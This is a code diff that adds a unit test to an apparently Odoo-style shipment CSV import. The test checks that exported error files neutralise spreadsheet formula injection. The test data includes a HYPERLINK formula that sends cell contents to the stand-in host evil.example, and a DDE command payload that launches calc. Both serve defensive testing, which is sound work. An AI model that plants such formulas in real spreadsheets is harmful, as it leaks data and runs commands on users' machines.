@@ -195,6 +195,35 @@ class TestShipImport(FulfillmentCase):
         self.assertEqual((again.shipped_count, again.failed_count), (1, 0))
         self.assertShipped(bad_number, self.carrier_sf, fixed)
 
+    def test_error_csv_neutralizes_formulas(self):
+        order = self.paid()
+        formula = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
+        content = self.csv_file(
+            [
+                (formula, "+SF", "-12345678"),  # row 2
+                ("@SUM(A1:A9)", "ＳＦ", "=1+1"),  # row 3
+                (order.name, "-cmd|' /C calc'!A0", self.ref()),  # row 4
+            ]
+        )
+        wizard = self.run_import(content)
+        self.assertEqual((wizard.shipped_count, wizard.failed_count), (0, 3))
+        self.assertUntouched(order)
+        errors = self.download(wizard.action_download_errors()).decode("utf-8-sig")
+        table = list(csv.reader(io.StringIO(errors)))
+        self.assertEqual(table[1][:3], ["'" + formula, "'+SF", "'-12345678"])
+        self.assertEqual(table[2][:3], ["'@SUM(A1:A9)", "SF", "'=1+1"])
+        self.assertEqual(table[3][1], "'-cmd|' /C calc'!A0")
+        self.assertEqual(table[3][0], order.name, "other cells are written as they were")
+        for row in table[1:]:
+            for cell in row:
+                self.assertFalse(cell.startswith(("=", "+", "-", "@")), cell)
+        # the quote is taken off again when the fixed file is imported
+        table[3][1] = "'=shunfeng"
+        buffer = io.StringIO()
+        csv.writer(buffer).writerows([table[0], table[3]])
+        again = self.run_import(buffer.getvalue().encode("utf-8-sig"))
+        self.assertEqual(self.line(again, 2).carrier_text, "=shunfeng")
+
     def test_gbk_csv_with_english_headers_and_excel_numbers(self):
         first, second, third = self.paid(), self.paid(), self.paid()
         n1, n2 = self.ref(), "773123456789012"
